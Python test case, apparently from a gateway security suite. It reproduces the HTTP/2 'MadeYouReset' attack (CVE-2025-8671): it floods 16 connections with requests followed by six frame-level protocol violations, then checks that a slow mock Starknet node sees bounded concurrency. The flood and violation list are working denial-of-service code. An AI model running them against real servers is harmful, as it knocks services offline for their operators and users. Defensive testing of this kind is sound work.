"""Requests after which the client violates the protocol, so that the program resets the stream
("MadeYouReset"): it no longer counts among the streams at a time, and its work must not go on."""

import json
import time

from lib.attack import HTTP2, Attack, Case
from lib.frames import (
    DATA,
    END_STREAM,
    LARGEST_WINDOW,
    PRIORITY,
    frame,
    post,
    request,
    window_update,
)
from lib.world import read, require

CONNECTIONS = 16
BURST = 20
# Concurrent requests of a client, as configured by default.
IN_FLIGHT = 64
# Numbers of receipts, each fetched from the node on its own, that no honest client requests.
FIRST = 0x7000_0000

VIOLATIONS = (
    lambda stream, head: window_update(stream, 0),
    lambda stream, head: window_update(stream, LARGEST_WINDOW),
    lambda stream, head: frame(DATA, END_STREAM, stream, b"x"),
    lambda stream, head: request(stream, head),
    lambda stream, head: frame(PRIORITY, 0, stream, b"\0\0\0\0"),
    lambda stream, head: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\0"),
)


def flood(attacker):
    head, sent = post(), 0

    def burst(wire, at):
        nonlocal sent
        violation, pieces = VIOLATIONS[at % len(VIOLATIONS)], []
        for stream in wire.streams(BURST):
            sent += 1
            whole = frame(DATA, END_STREAM, stream, read(FIRST + sent))
            pieces += [request(stream, head, ends=False), whole, violation(stream, head)]
        return b"".join(pieces)

    attacker.flood(CONNECTIONS, lambda at: attacker.http2(at=at), burst, "requests", BURST)


def slow_receipts(_, body):
    """A node that takes a while for what the attacker requests, and counts how many there are."""
    call = json.loads(body)
    if call["method"] == "starknet_getTransactionReceipt":
        time.sleep(0.3)
    return b'{"jsonrpc":"2.0","id":%d,"result":"0x1"}' % call["id"]


def few_at_the_node(world, _):
    # a request that was reset may still be read to its end when the next one takes its place
    most = world.node.most
    require(most <= 2 * IN_FLIGHT, f"{most} concurrent requests at the node")


ATTACK = Attack(
    title="MadeYouReset",
    published="CVE-2025-8671",
    cases=(
        Case("six violations", HTTP2, flood, {"requests": 3_000}, node=slow_receipts,
             gateway="requests_per_minute = 1_000_000", check=few_at_the_node),
    ),
    also=f"{2 * IN_FLIGHT} requests at the node",
)
